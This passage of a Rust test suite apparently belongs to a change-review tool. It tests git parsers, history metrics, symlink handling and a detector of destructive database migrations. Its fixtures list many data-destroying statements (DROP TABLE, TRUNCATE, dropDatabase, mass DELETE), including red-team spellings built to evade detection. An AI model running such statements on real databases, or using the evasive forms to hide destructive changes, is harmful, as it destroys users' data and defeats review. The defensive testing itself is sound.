        hist(&"4".repeat(40), "cy@x", 30.0, &["docs/c.txt"]),
        hist(&"3".repeat(40), "ann@x", 20.0, &["lib/old.txt"]),
        hist(&"2".repeat(40), "BOB@x", 10.0, &["svc/a.txt"]),
        hist(&"1".repeat(40), "ann@x", 0.0, &["svc/a.txt", "lib/old.txt", "README.md"]),
    ];
    let files = [
        change("svc/a.txt", FileStatus::Modified, None),
        change("lib/new.txt", FileStatus::Renamed, Some("lib/old.txt")),
        change("svc/new.txt", FileStatus::Added, None),
    ];
    let log = CommitLog { commits: base_history.clone(), complete: true };
    let query = HistoryQuery { files: &files, author_email: "ANN@x", at: at(40.0) };
    let m = history_metrics(&log, &log, &query);
    assert_eq!(m.ndev, Some(2.0), "ann and bob changed the touched files");
    assert_eq!(m.nuc, Some(3.0), "commits 1, 2 and 3");
    // svc/a.txt last changed at day 10 (30 days), lib/old.txt at day 20 (20 days).
    assert!((m.age.unwrap() - 25.0).abs() < 1e-9, "{:?}", m.age);
    assert_eq!(m.exp, Some(2.0));
    let rexp = 1.0 / (1.0 + 40.0 / 365.25) + 1.0 / (1.0 + 20.0 / 365.25);
    assert!((m.rexp.unwrap() - rexp).abs() < 1e-9, "{:?} vs {rexp}", m.rexp);
    assert_eq!(m.sexp, Some(2.0), "commit 1 touched svc and lib, commit 3 lib");
    assert_eq!(m.lt, None);
}

#[test]
fn history_of_new_files_only() {
    let files = [change("new/x.rs", FileStatus::Added, None)];
    let empty = CommitLog { commits: Vec::new(), complete: true };
    let m = history_metrics(&empty, &empty, &HistoryQuery { files: &files, author_email: "a@x", at: 0 });
    assert_eq!((m.ndev, m.nuc, m.age, m.exp, m.sexp), (Some(0.0), Some(0.0), None, Some(0.0), Some(0.0)));
    assert_eq!(m.rexp, Some(0.0));
}

#[test]
fn a_cut_file_log_leaves_counts_unknown() {
    let files = [change("a", FileStatus::Modified, None), change("b", FileStatus::Modified, None)];
    let cut = CommitLog { commits: vec![hist(H1, "x@x", 1.0, &["a"])], complete: false };
    let m = history_metrics(&cut, &cut, &HistoryQuery { files: &files, author_email: "x@x", at: at(3.0) });
    assert_eq!((m.ndev, m.nuc, m.age), (None, None, None), "b's last change is outside the window");
    assert_eq!(m.exp, Some(1.0), "experience is a lower bound");
    let both = CommitLog { commits: vec![hist(H1, "x@x", 1.0, &["a", "b"])], complete: false };
    let m = history_metrics(&both, &both, &HistoryQuery { files: &files, author_email: "x@x", at: at(3.0) });
    assert_eq!(m.age, Some(2.0), "every touched file was seen, so its last change is known");
}

#[test]
fn history_skips_merges_and_clamps_future_times() {
    let files = [change("a", FileStatus::Modified, None)];
    let mut merge = hist(H2, "m@x", 0.0, &["a"]);
    merge.parents = vec![H1.into(), H3.into()];
    let future = hist(H1, "f@x", 10.0, &["a"]);
    let log = CommitLog { commits: vec![merge, future], complete: true };
    let m = history_metrics(&log, &log, &HistoryQuery { files: &files, author_email: "f@x", at: at(5.0) });
    assert_eq!((m.ndev, m.nuc, m.age), (Some(1.0), Some(1.0), Some(0.0)));
    assert_eq!(m.rexp, Some(1.0));
}

// ---- no panics on any bytes ----

proptest! {
    #[test]
    fn parsers_no_panic(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = parse_numstat_z(&bytes);
        let _ = parse_name_status_z(&bytes);
        let _ = parse_log(&bytes);
        let text = String::from_utf8_lossy(&bytes);
        let _ = trailers(&text);
        let _ = subject(&text);
        let _ = tool_and_model(&text);
        let _ = AiAgents::default().identify(&text, &text);
    }

    #[test]
    fn structured_noise_no_panic(parts in proptest::collection::vec(
        prop_oneof![Just(&b"\0"[..]), Just(&b"\t"[..]), Just(&b"-"[..]), Just(&b"12"[..]), Just(&b"R100"[..]),
                    Just(&b"\n"[..]), Just(&b"a b"[..]), Just(&b":"[..]), Just(&b"Key: v"[..]), Just(H1.as_bytes())],
        0..40)) {
        let bytes = parts.concat();
        let _ = parse_numstat_z(&bytes);
        let _ = parse_name_status_z(&bytes);
        let _ = parse_log(&bytes);
        let _ = trailers(&String::from_utf8_lossy(&bytes));
    }
}

#[test]
fn mark_binary_keeps_the_counted_lines() {
    let mut files = parse_numstat_z(b"3\t0\tlogo.png\x0012\t1\tmain.py\x005\t5\t\x00old.bin\x00new.bin\x00").unwrap();
    let detected = parse_numstat_z(b"-\t-\tlogo.png\x0012\t1\tmain.py\x00-\t-\told.bin\x000\t0\tnew.bin\x00").unwrap();
    mark_binary(&mut files, &detected);
    let flags: Vec<_> = files.iter().map(|f| (f.path.as_str(), f.added, f.binary)).collect();
    assert_eq!(flags, [("logo.png", 3, true), ("main.py", 12, false), ("new.bin", 5, true)]);
}

#[test]
fn gitlinks_are_the_records_whose_new_mode_is_160000() {
    let z = |parts: &[&str]| parts.iter().map(|p| format!("{p}\0")).collect::<String>().into_bytes();
    let raw = z(&[
        ":160000 160000 aaaa bbbb M",
        "payments/vendor",
        ":100644 100644 cccc dddd M",
        "payments/app.go",
        ":100644 100644 eeee ffff R087",
        "old/name.go",
        "new/name.go",
        ":000000 160000 0000 1111 A",
        "lib/sdk",
        ":160000 000000 2222 0000 D",
        "lib/gone",
    ]);
    assert_eq!(blastgate_ingest::git::parse_gitlinks_z(&raw).unwrap(), ["payments/vendor", "lib/sdk"]);
    assert!(blastgate_ingest::git::parse_gitlinks_z(b"").unwrap().is_empty());
    for bad in [&b"100644 100644 a b M\0x\0"[..], b":100644 a b M\0x\0", b":100644 100644 a b R100\0only-one\0"] {
        let e = blastgate_ingest::git::parse_gitlinks_z(bad).unwrap_err();
        assert!(e.to_string().contains("git diff --raw"), "{e}");
    }
}

/// The git reader's autonomous agents and the names a changeset's
/// `provenance.tool` is checked against (`is_autonomous_tool`) are the same
/// tools: each autonomous agent's id and names count as an agent, and no
/// interactive tool's id does.
#[test]
fn autonomous_agents_match_the_changeset_tool_list() {
    for agent in AiAgents::default().agents() {
        let counted = blastgate_change::is_autonomous_tool(agent.tool());
        assert_eq!(counted, agent.is_autonomous(), "{}", agent.tool());
        if agent.is_autonomous() {
            for name in agent.names() {
                assert!(blastgate_change::is_autonomous_tool(name), "{name}");
            }
        }
    }
}

/// Regression (a git audit): git ends a `---`/`+++` name that holds a space
/// with a TAB. The TAB stayed in the path, so `V2__drop old users.sql\t` was
/// no `.sql` migration, and a quoted name ending in `"\t` was never
/// unquoted, its lines never read.
#[test]
fn patch_headers_of_names_with_a_space_lose_git_s_tab() {
    use blastgate_ingest::git::{destructive_migrations, hidden_line_breaks};
    let patch = b"diff --git a/sql/V2__drop old users.sql b/sql/V2__drop old users.sql\n\
                  new file mode 100644\n--- /dev/null\n+++ b/sql/V2__drop old users.sql\t\n@@ -0,0 +1 @@\n+DROP TABLE users;\n\
                  diff --git \"a/db/0002 drop \\\"legacy\\\".sql\" \"b/db/0002 drop \\\"legacy\\\".sql\"\n\
                  --- /dev/null\n+++ \"b/db/0002 drop \\\"legacy\\\".sql\"\t\n@@ -0,0 +1 @@\n+DROP TABLE legacy;\n\
                  diff --git a/src/x y.py b/src/x y.py\n--- a/src/x y.py\t\n+++ /dev/null\n@@ -1 +0,0 @@\n-a=1\rb=2\rc=3\n";
    let all = destructive_migrations(patch, |_| true);
    assert_eq!(all, ["db/0002 drop \"legacy\".sql", "sql/V2__drop old users.sql"]);
    let hidden = hidden_line_breaks(patch);
    assert_eq!(hidden.get("src/x y.py"), Some(&(0, 2)), "{hidden:?}");
}

/// A patch adding `text` to the migration `db/0002.sql`.
fn migration_patch(text: &str) -> Vec<u8> {
    let lines: String = text.lines().map(|l| format!("+{l}\n")).collect();
    let n = text.lines().count();
    format!("diff --git a/db/0002.sql b/db/0002.sql\nnew file mode 100644\n--- /dev/null\n+++ b/db/0002.sql\n@@ -0,0 +1,{n} @@\n{lines}")
        .into_bytes()
}

/// Regression (a gaming audit): the detector matched fourteen fixed
/// phrases, and twelve other spellings of the same loss passed (peer
/// where `DROP TABLE` gives senior): comments between the words, other
/// SQL forms, other migration tools' verbs. Additive migrations, foreign
/// keys' `ON DELETE` rules included, stay additive.
#[test]
fn destructive_migrations_are_found_in_every_spelling() {
    use blastgate_ingest::git::destructive_migrations;
    let destructive = [
        "DROP TABLE outbox;",
        "DROP/**/TABLE outbox;",
        "DROP -- tidy\nTABLE outbox;",
        "DROP # tidy\nTABLE outbox;",
        "DELETE o FROM outbox o;",
        "DELETE outbox;",
        "DELETE FROM outbox WHERE id < 10;",
        "delete\n  from outbox",
        "UPDATE outbox SET body = NULL;",
        "UPDATE public.outbox AS o SET body = NULL;",
        "TRUNCATE outbox;",
        "ALTER TABLE outbox\n  DROP legacy;",
        "ALTER TABLE outbox DROP CONSTRAINT outbox_fk, DROP COLUMN body;",
        "ALTER TABLE outbox ENGINE=BLACKHOLE;",
        "ALTER TABLE outbox ENGINE = BLACKHOLE;",
        "db.outbox_tmp.renameCollection(\"outbox\", true);",
        "ALTER TABLE outbox ALTER COLUMN id DROP DEFAULT, DROP legacy;",
        "queryInterface.removeColumn('outbox', 'body');",
        "await queryInterface.bulkDelete('outbox', null, {});",
        "change_table :outbox do |t|\n  t.remove :body\nend",
        "remove_columns :outbox, :body, :title",
        "migrations.RemoveField (model_name='outbox', name='body'),",
        "alter table(:outbox) do\n  remove :body\nend",
        "db.outbox.drop();",
        "db.dropDatabase();",
        "db.outbox.updateMany({}, {$unset: {body: 1}});",
        "Schema::dropIfExists('outbox');",
        "Schema::drop('outbox');",
        "migrationBuilder.DropTable(name: \"outbox\");",
        "knex.schema.dropTableIfExists('outbox')",
        "Outbox.objects.filter(sent=True).delete()",
        "op.execute(\"DELETE outbox\")",
        "<dropColumn tableName=\"outbox\" columnName=\"body\"/>",
        // Red team 12: the tools' own calls and Liquibase's row changes.
        "await knex('outbox').truncate();",
        "DB::table('outbox')->truncate();",
        "await queryRunner.clearTable('outbox');",
        "await queryInterface.bulkUpdate('outbox', {body: null}, {});",
        "<delete tableName=\"outbox\"/>",
        "<update tableName=\"outbox\"><column name=\"body\" value=\"x\"/></update>",
        // A red-team audit of the detector found these passing.
        "UPDATE \"outbox\" SET body = NULL;",
        "UPDATE [outbox] SET body = NULL;",
        "DELETE \"outbox\";",
        "DELETE TOP (100000000) FROM outbox;",
        "DELETE QUICK IGNORE FROM outbox;",
        "MERGE INTO outbox o USING gone g ON o.id = g.id WHEN MATCHED THEN DELETE;",
        "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE outbox'; END $$;",
        "EXEC('DR' + 'OP TABLE outbox');",
        "DROP OWNED BY app_role CASCADE;",
        "ALTER TABLE outbox ALTER COLUMN body TYPE int USING NULL;",
        "CREATE OR REPLACE TABLE outbox (id int);",
        "INSERT OVERWRITE TABLE outbox SELECT * FROM empty;",
        "drop_if_exists table(:outbox)",
        "Outbox.delete_all",
        "Outbox.update_all(body: nil)",
        "Outbox.objects.all().update(body=None)",
        "knex('outbox').del()",
        "db.outbox.remove({})",
        // A docs audit found these passing.
        "DELETE dbo.orders;",
        "DELETE hr.employees WHERE id < 10;",
        "DELETE \"public\".\"orders\";",
        "DELETE TOP (10) o OUTPUT deleted.id, deleted.total, deleted.a, deleted.b, deleted.c INTO archive FROM orders o;",
        // A destruction audit found these passing.
        "DROP KEYSPACE ledger;",
        "DROP TABLESPACE ledger INCLUDING CONTENTS AND DATAFILES;",
        "ALTER TABLE outbox DELETE WHERE sent = 1;",
        "ALTER TABLE outbox UPDATE body = '' WHERE sent = 1;",
        "ALTER TABLE outbox MODIFY body VARCHAR(10);",
        "ALTER TABLE outbox CHANGE body body VARCHAR(10);",
        "DROP TYPE mood CASCADE;",
        "DROP EXTENSION postgis CASCADE;",
        "Schema::dropAllTables();",
        "await queryRunner.dropSchema('ledger', true, true);",
        // A red team's misses: types changed in place, rows deleted or
        // rewritten by the tools' helpers, columns dropped by a helper.
        "ALTER TABLE outbox ALTER COLUMN total TYPE integer;",
        "ALTER TABLE outbox ALTER COLUMN total SET DATA TYPE integer;",
        "change_column :outbox, :total, :integer",
        "await queryInterface.changeColumn('outbox', 'total', { type: Sequelize.INTEGER });",
        "migrationBuilder.AlterColumn<int>(name: \"Total\", table: \"Outbox\");",
        "op.alter_column('outbox', 'total', type_=sa.Integer())",
        "<modifyDataType tableName=\"outbox\" columnName=\"total\" newDataType=\"int\"/>",
        "UPDATE outbox o JOIN users u ON u.id = o.user_id SET o.body = NULL;",
        "DB::table('outbox')->update(['body' => null]);",
        "Outbox.delete_by(sent: true)",
        "Outbox.where(sent: true).destroy_by(old: true)",
        "Outbox.in_batches.each_record(&:destroy)",
        "truncate_tables :outbox",
        "Outbox.find_each { |o| o.update_columns(body: nil) }",
        "Outbox.objects.bulk_update(rows, ['body'])",
        "Outbox.objects.all()._raw_delete(schema_editor.connection.alias)",
        "alter table(:outbox) do\n  remove_if_exists :body, :text\nend",
        "migrationBuilder.DeleteData(table: \"Outbox\", keyColumn: \"Id\", keyValue: 1);",
        "$table->dropSoftDeletes();",
        "$table->dropTimestamps();",
        "Base.metadata.drop_all(op.get_bind())",
        "await Outbox.destroy({ truncate: true });",
        "await db.command({ drop: 'outbox' });",
        "await db.collection('outbox_v2').rename('outbox', { dropTarget: true });",
        "ALTER TABLE outbox DISCARD TABLESPACE;",
        "TRUNCATE \"outbox\";",
        "truncate table outbox restart identity;",
        "ALTER TABLE outbox SET UNUSED (body);",
    ];
    for text in destructive {
        let found = destructive_migrations(&migration_patch(text), |_| true);
        assert_eq!(found, ["db/0002.sql"], "not found: {text}");
    }
    let additive = [
        "CREATE TABLE outbox (id int PRIMARY KEY, user_id int REFERENCES users ON DELETE CASCADE ON UPDATE CASCADE);",
        "ALTER TABLE outbox ADD COLUMN deleted_at timestamptz; -- soft delete flag",
        "CREATE INDEX outbox_sent ON outbox (sent);",
        "migrations.AddField(model_name='outbox', name='user', field=models.ForeignKey(on_delete=models.CASCADE)),",
        "add_column :outbox, :body, :text",
        "queryInterface.addColumn('outbox', 'body', Sequelize.TEXT);",
        "ALTER TABLE outbox ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users ON DELETE CASCADE ON UPDATE SET NULL;",
        "DROP INDEX outbox_sent;",
        "DROP TYPE mood;",
        // Red team 11's false alarms: constraints, `NOT NULL`, defaults,
        // identities, keys and indexes dropped lose no data.
        "ALTER TABLE outbox DROP CONSTRAINT outbox_fk;",
        "ALTER TABLE outbox ALTER COLUMN id DROP NOT NULL;",
        "ALTER TABLE outbox ALTER COLUMN id DROP DEFAULT;",
        "ALTER TABLE outbox ALTER COLUMN id DROP IDENTITY IF EXISTS;",
        "ALTER TABLE outbox DROP FOREIGN KEY outbox_fk, DROP INDEX outbox_sent;",
        "ALTER TABLE outbox DROP PRIMARY KEY;",
        "db.outbox_tmp.renameCollection(\"outbox_v2\");",
        "ALTER TABLE outbox ENGINE=InnoDB;",
        // Near the red team's readings, and no loss.
        "change_column_default :outbox, :status, 'new'",
        "change_column_null :outbox, :body, false",
        "op.alter_column('outbox', 'body', nullable=False)",
        "op.alter_column('outbox', 'body', new_column_name='text')",
        "has_many :items, dependent: :destroy",
        "await db.collection('outbox_v2').rename('outbox', { dropTarget: false });",
        "await db.command({ create: 'outbox' });",
        "CREATE TYPE mood AS ENUM ('ok');",
        // A red team's false alarms: privileges, a trigger's event, MySQL's
        // `TRUNCATE(x, d)` that rounds a number.
        "REVOKE TRUNCATE ON outbox FROM app;",
        "GRANT SELECT, UPDATE, TRUNCATE ON outbox TO app;",
        "CREATE TRIGGER stamp BEFORE UPDATE ON outbox FOR EACH ROW SET NEW.updated_at = NOW();",
        "CREATE VIEW totals AS SELECT TRUNCATE(total, 2) AS t FROM outbox;",
    ];
    for text in additive {
        let found = destructive_migrations(&migration_patch(text), |_| true);
        assert!(found.is_empty(), "found in: {text}");
    }
    // Not a migration: not read.
    assert!(destructive_migrations(&migration_patch("DROP TABLE outbox;"), |_| false).is_empty());
}

/// Regression (a gaming audit): what a migration does must be read, or
/// the migration counts as destroying data. A symbolic link (its patch
/// holds the target's name) and a text past the bound (a statement after
/// a 1.1 MB comment) passed as additive.
#[test]
fn unread_migrations_count_as_destructive() {
    use blastgate_ingest::git::{MAX_MIGRATION_TEXT, destructive_migrations};
    let link = b"diff --git a/db/0002.sql b/db/0002.sql\nnew file mode 120000\nindex 0000000..e69de29\n--- /dev/null\n\
                 +++ b/db/0002.sql\n@@ -0,0 +1 @@\n+../sql/cleanup.sql\n\\ No newline at end of file\n";
    assert_eq!(destructive_migrations(link, |_| true), ["db/0002.sql"]);
    let relink = b"diff --git a/db/0002.sql b/db/0002.sql\nindex e69de29..0cfbf08 120000\n--- a/db/0002.sql\n\
                   +++ b/db/0002.sql\n@@ -1 +1 @@\n-../sql/a.sql\n+../sql/b.sql\n";
    assert_eq!(destructive_migrations(relink, |_| true), ["db/0002.sql"]);
    // A link turned into a file is read as a file.
    let unlinked = b"diff --git a/db/0002.sql b/db/0002.sql\nold mode 120000\nnew mode 100644\n--- a/db/0002.sql\n\
                     +++ b/db/0002.sql\n@@ -1 +1 @@\n-../sql/a.sql\n+CREATE TABLE t (id int);\n";
    assert!(destructive_migrations(unlinked, |_| true).is_empty());
    let long = format!("-- {}\nCREATE TABLE t (id int);", "x".repeat(MAX_MIGRATION_TEXT));
    assert_eq!(destructive_migrations(&migration_patch(&long), |_| true), ["db/0002.sql"]);
    let short = format!("-- {}\nCREATE TABLE t (id int);", "x".repeat(MAX_MIGRATION_TEXT / 2));
    assert!(destructive_migrations(&migration_patch(&short), |_| true).is_empty());
    // UTF-16 (NUL bytes between the letters): its words cannot be read.
    let wide: Vec<u8> = "DROP TABLE outbox;".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut patch = migration_patch("x").strip_suffix(b"+x\n").unwrap().to_vec();
    patch.push(b'+');
    patch.extend(wide);
    patch.push(b'\n');
    assert_eq!(destructive_migrations(&patch, |_| true), ["db/0002.sql"]);
}

/// A migration of 1 MiB of short comments of every kind reads as the
/// additive text it is (searching for each comment marker again from every
/// comment's end was quadratic: this input took minutes).
#[test]
fn a_migration_of_many_comments_is_read_in_one_pass() {
    use blastgate_ingest::git::{MAX_MIGRATION_TEXT, destructive_migrations};
    let text = "#\n-- x\n/* y */\n".repeat(MAX_MIGRATION_TEXT / 16);
    assert!(destructive_migrations(&migration_patch(&text), |_| true).is_empty());
    let text = format!("{text}DROP/* z */TABLE t;\n");
    assert_eq!(destructive_migrations(&migration_patch(&text), |_| true), ["db/0002.sql"]);
}

/// Symbolic links from `git ls-tree -r -z` with their blobs, the blobs
/// from `git cat-file --batch`, and the paths a change reaches through
/// them (a gaming audit), never more than asked.
#[test]
fn links_their_targets_and_the_paths_through_them() {
    use blastgate_ingest::git::{parse_cat_file_batch, parse_links_z, paths_through_links, resolve_links};
    let (b, d) = ("b".repeat(40), "d".repeat(40));
    let listed = [
        format!("100644 blob {}\tREADME.md", "a".repeat(40)),
        format!("120000 blob {b}\tpayments/limits.yaml"),
        format!("040000 tree {}\tpayments", "c".repeat(40)),
        format!("120000 blob {d}\tpayments/config"),
    ]
    .map(|r| format!("{r}\x00"))
    .concat();
    let links = parse_links_z(listed.as_bytes()).unwrap();
    assert_eq!(links, [("payments/limits.yaml".to_owned(), b.clone()), ("payments/config".to_owned(), d.clone())]);
    assert!(parse_links_z(b"120000 blob\0").is_err());
    // A link whose name is not UTF-8 is left out, not an error.
    let mut odd = format!("120000 blob {b}\tcaf").into_bytes();
    odd.extend([0xe9, 0]);
    assert!(parse_links_z(&odd).unwrap().is_empty());
    let batch = format!(
        "{b} blob 28\n../notifications/limits.yaml\n{d} blob 16\n../shared/config\n{} missing\n",
        "e".repeat(40)
    );
    let blobs = parse_cat_file_batch(batch.as_bytes()).unwrap();
    assert_eq!(blobs.len(), 2);
    assert!(parse_cat_file_batch(format!("{b} blob 99\nshort\n").as_bytes()).is_err());
    let texts: std::collections::BTreeMap<String, String> =
        links.iter().map(|(l, h)| (l.clone(), String::from_utf8(blobs[h].clone()).unwrap())).collect();
    let links = resolve_links(&texts);
    assert_eq!(links["payments/config"], "shared/config");
    let changed = ["notifications/limits.yaml", "shared/config/a.yaml", "shared/configs/b.yaml", "shared/config"];
    let through = paths_through_links(&links, &changed, 3).unwrap();
    assert_eq!(
        through,
        [
            ("payments/config".to_owned(), "shared/config".to_owned()),
            ("payments/config/a.yaml".to_owned(), "shared/config/a.yaml".to_owned()),
            ("payments/limits.yaml".to_owned(), "notifications/limits.yaml".to_owned()),
        ]
    );
    // Past the bound: nothing is made.
    assert_eq!(paths_through_links(&links, &changed, 2), None);
    // A link text longer than a path may be, or that steps out, reaches
    // nothing; a long one is resolved in steps bounded by its length.
    let long: std::collections::BTreeMap<String, String> =
        [("x/l".to_owned(), "a/".repeat(3000)), ("x/m".to_owned(), "a/../".repeat(800))].into();
    let resolved = resolve_links(&long);
    assert_eq!(resolved.get("x/l"), None);
    assert_eq!(resolved.get("x/m").map(String::as_str), Some("x"));
}

/// A migration of 128 KiB of `ALTER TABLE` with no `;` reads as the additive
/// text it is, and one `DROP` a clause after each is found (an audit: the
/// rule scanned to the next `;` from every `ALTER TABLE`, 13 s).
#[test]
fn alter_table_statements_are_read_a_bounded_way_ahead() {
    use blastgate_ingest::git::{MAX_MIGRATION_TEXT, destructive_migrations};
    let text = "alter table\n".repeat(MAX_MIGRATION_TEXT / 13 / 8);
    assert!(destructive_migrations(&migration_patch(&text), |_| true).is_empty());
    let drop = "ALTER TABLE t ADD COLUMN a int, DROP COLUMN b;\n";
    assert_eq!(destructive_migrations(&migration_patch(&format!("{text}{drop}")), |_| true), ["db/0002.sql"]);
    // A statement that a `;` ends is read to it, however long (a red
    // team: 300 values in a `CHECK` hid the `USING` past 512 tokens).
    let values: Vec<String> = (0..300).map(|i| format!("'s{i}'")).collect();
    let check = format!("ALTER TABLE orders\n  ADD CONSTRAINT ok CHECK (status IN ({})),\n", values.join(","));
    let using = format!("{check}  ALTER COLUMN total TYPE integer USING total::integer;\n");
    assert_eq!(destructive_migrations(&migration_patch(&using), |_| true), ["db/0002.sql"]);
    let modify = format!("{check}  MODIFY total INT;\n");
    assert_eq!(destructive_migrations(&migration_patch(&modify), |_| true), ["db/0002.sql"]);
    let additive = format!("{check}  ADD COLUMN note text;\nCREATE TABLE t (id int);\n");
    assert!(destructive_migrations(&migration_patch(&additive), |_| true).is_empty());
}

/// What a deleted infrastructure file declared, as each tool writes it
/// (`declared_types`): the types a destruction counts by.
#[test]
fn declared_types_as_each_tool_writes_them() {
    use blastgate_ingest::git::{MAX_TYPE_BYTES, declared_types};
    let cases: &[(&[u8], &[&str])] = &[
        // Kubernetes: every document's own kind, not the kinds it refers
        // to (a claim template is made by the StatefulSet); a templated
        // kind is no type; a commented one is not declared.
        (
            b"apiVersion: apps/v1\nkind: StatefulSet\nspec:\n  volumeClaimTemplates:\n    - kind: PersistentVolumeClaim\n---\nkind: \"Secret\"\r\n---\nkind: {{ .Values.kind }}\n# kind: Namespace\n",
            &["Secret", "StatefulSet"],
        ),
        // Terraform, labels quoted or bare; data sources are read, not declared.
        (
            b"resource \"aws_db_instance\" \"a\" {}\nresource aws_sqs_queue b {\n}\ndata \"aws_vpc\" \"x\" {}\n/* resource \"aws_s3_bucket\" \"c\" {} */\n",
            &["aws_db_instance", "aws_sqs_queue"],
        ),
        // Terraform JSON: the keys of `resource`, an object or a list of them.
        (b"{\"resource\": [{\"aws_dynamodb_table\": {\"t\": {}}}, {\"aws_iam_role\": {}}]}", &["aws_dynamodb_table", "aws_iam_role"]),
        // CloudFormation, YAML and JSON.
        (
            b"Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n  Role:\n    Type: 'AWS::IAM::Role'\n  Param:\n    Type: String\n",
            &["AWS::IAM::Role", "AWS::RDS::DBInstance"],
        ),
        (b"{\"Resources\": {\"Q\": {\"Type\": \"AWS::SQS::Queue\"}}}", &["AWS::SQS::Queue"]),
        // Pulumi YAML and Bicep.
        (b"resources:\n  db:\n    type: aws:rds:Instance\n    properties: {}\n", &["aws:rds:Instance"]),
        (
            b"resource store 'Microsoft.Storage/storageAccounts@2023-01-01' = {\n  name: 'x'\n}\n",
            &["Microsoft.Storage/storageAccounts"],
        ),
        // Not infrastructure, or not readable.
        (b"", &[]),
        (b"kind: Secret\0", &[]),
        (b"resources = [\"a\"]\nresource_group = 1\n", &[]),
    ];
    for (text, want) in cases {
        assert_eq!(declared_types(text), *want, "{}", String::from_utf8_lossy(text));
    }
    // Control characters dropped, long types cut at a character boundary.
    assert_eq!(declared_types(b"kind: Per\x1bsistentVolumeClaim\n"), ["PersistentVolumeClaim"]);
    let long = format!("kind: {}\n", "\u{e9}".repeat(300));
    let t = declared_types(long.as_bytes());
    assert!(t.len() == 1 && t[0].len() <= MAX_TYPE_BYTES && t[0].starts_with('\u{e9}'), "{t:?}");
}

/// Regression (a destruction audit): a down migration, which runs only
/// when its up migration is rolled back, made every reversible migration
/// pair irreversible (`DROP COLUMN` in `1_add.down.sql`). Down files by
/// name and the down sections of dbmate, goose and sql-migrate are not
/// read; names Flyway runs forward, other languages' files, and files
/// with an up section are.
#[test]
fn down_migrations_are_not_this_changes_statements() {
    use blastgate_ingest::git::{destructive_migrations, is_down_migration};
    let patch = |path: &str, text: &str| {
        let lines: String = text.lines().map(|l| format!("+{l}\n")).collect();
        let n = text.lines().count();
        format!("diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{n} @@\n{lines}")
            .into_bytes()
    };
    let drop = "ALTER TABLE orders DROP COLUMN note;";
    for down in [
        "db/migrations/000002_note.down.sql",
        "migrations/2024-01-01-000000_note/down.sql",
        "migrations/sqls/20240101-note-down.sql",
        "sqitch/revert/note.sql",
    ] {
        assert!(is_down_migration(down), "{down}");
        assert!(destructive_migrations(&patch(down, drop), |_| true).is_empty(), "{down}");
    }
    for forward in [
        "db/migration/V2__note.down.sql",
        "db/migration/V2_1__note_down.sql",
        "db/migration/R__note-down.sql",
        "migrations/2_note.down.js",
        "db/migrations/000002_note.up.sql",
        "db/migrations/update__x.sql",
        // Run forward by refinery and sqlx, whatever they suggest (an audit).
        "db/migration/U2__note.sql",
        "migrations/2_tear_down.sql",
        "migrations/2_note-down.sql",
    ] {
        assert!(!is_down_migration(forward), "{forward}");
        assert_eq!(destructive_migrations(&patch(forward, drop), |_| true), [forward], "{forward}");
    }
    // A down file's name with an up section is read.
    let both = format!("-- +migrate Up\n{drop}\n-- +migrate Down\nSELECT 1;");
    assert_eq!(destructive_migrations(&patch("db/5_note_down.sql", &both), |_| true), ["db/5_note_down.sql"]);
    // Sections: the down part is not read, the up part is.
    let dbmate = format!("-- migrate:up\nALTER TABLE orders ADD COLUMN note text;\n\n-- migrate:down\n{drop}\n");
    assert!(destructive_migrations(&patch("db/migrations/2_note.sql", &dbmate), |_| true).is_empty());
    let goose = format!("-- +goose Down\n{drop}\n-- +goose Up\nDROP TABLE legacy;\n");
    assert_eq!(destructive_migrations(&patch("db/2_note.sql", &goose), |_| true), ["db/2_note.sql"]);
    // A down marker before any up marker hides nothing (an audit: one
    // heading a Flyway migration hid its DROP TABLE).
    let heading = format!("-- migrate:down\n{drop}\n");
    assert_eq!(destructive_migrations(&patch("db/V2__x.sql", &heading), |_| true), ["db/V2__x.sql"]);
    // A marker taken out: what followed it changes section unseen.
    let unmarked = "diff --git a/db/2_note.sql b/db/2_note.sql\n--- a/db/2_note.sql\n+++ b/db/2_note.sql\n@@ -3 +2,0 @@\n--- migrate:down\n";
    assert_eq!(destructive_migrations(unmarked.as_bytes(), |_| true), ["db/2_note.sql"]);
    // The down functions of one-file tools, after their up function.
    let alembic = "def upgrade() -> None:\n    op.add_column('orders', sa.Column('note', sa.Text()))\n\n\ndef downgrade() -> None:\n    op.drop_column('orders', 'note')\n";
    let laravel = "public function up(): void\n{\n    Schema::create('refunds', function (Blueprint $t) { $t->id(); });\n}\npublic function down(): void\n{\n    Schema::dropIfExists('refunds');\n}\n";
    let knex = "exports.up = function(knex) {\n  return knex.schema.createTable('refunds', t => { t.increments(); });\n};\nexports.down = function(knex) {\n  return knex.schema.dropTable('refunds');\n};\n";
    let rails = "class AddNote < ActiveRecord::Migration[7.1]\n  def up\n    add_column :orders, :note, :text\n  end\n\n  def down\n    remove_column :orders, :note\n  end\nend\n";
    let sequelize = "module.exports = {\n  up: async (queryInterface, Sequelize) => {\n    await queryInterface.addColumn('orders', 'note', Sequelize.TEXT);\n  },\n  down: async (queryInterface) => {\n    await queryInterface.removeColumn('orders', 'note');\n  },\n};\n";
    let liquibase =
        "--changeset dana:2\nALTER TABLE orders ADD note text;\n--rollback ALTER TABLE orders DROP COLUMN note;\n";
    for (path, text) in [
        ("alembic/versions/3f2a_note.py", alembic),
        ("database/migrations/2026_12_01_create_refunds.php", laravel),
        ("migrations/20261201_refunds.js", knex),
        ("db/migrate/20261201_add_note.rb", rails),
        ("migrations/20261201-note.js", sequelize),
        ("db/changelog/2.sql", liquibase),
    ] {
        assert!(destructive_migrations(&patch(path, text), |_| true).is_empty(), "{path}");
    }
    // The up function still counts.
    let dropping = alembic.replace("op.add_column('orders', sa.Column('note', sa.Text()))", "op.drop_table('legacy')");
    assert_eq!(
        destructive_migrations(&patch("alembic/versions/4_x.py", &dropping), |_| true),
        ["alembic/versions/4_x.py"]
    );
    // Red team 17: a down marker as its tool does not read one (indented,
    // in another case or spacing) is a comment the tool runs past, so
    // what follows it runs going up; a real marker after it still ends
    // the up section.
    for fake in [
        "  -- migrate:down",
        "-- migrate:DOWN",
        "-- Migrate:Down",
        "\t-- +migrate Down",
        "-- +migrate down",
        "--+migrate Down",
        "--  +migrate Down",
        "  -- +goose Down",
    ] {
        let (up, down) = if fake.contains("goose") {
